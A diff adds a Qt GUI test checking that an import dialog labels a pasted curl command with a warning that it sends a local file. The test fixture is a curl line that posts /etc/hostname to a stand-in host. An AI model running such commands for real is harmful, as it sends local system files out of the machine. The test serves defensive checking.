@@ -309,6 +309,20 @@ private Q_SLOTS:
         QVERIFY(QGuiApplication::clipboard()->text().contains(u"X-A: 1"_s));
     }
 
+    void aPastedLineThatSendsAFileIsShownFirst()
+    {
+        window().setFocus();
+        QGuiApplication::clipboard()->setText(u"curl https://h.example/a --data-binary @/etc/hostname"_s);
+        key(Qt::Key_V);
+        click(*find<QWidget>(window(), "messageBar"), "inlineBarAction");
+        QDialog *import = dialog(window(), "importDialog");
+        QVERIFY(import);
+        const auto *list = find<QListWidget>(*import, "importList");
+        QTRY_COMPARE(list->count(), 1);
+        QVERIFY(list->item(0)->text().endsWith(u" · sends the file /etc/hostname"_s));
+        import->reject();
+    }
+
     void importsIntoANewFileAndNeverASecret()
     {
         key(Qt::Key_I, Qt::ControlModifier | Qt::ShiftModifier);
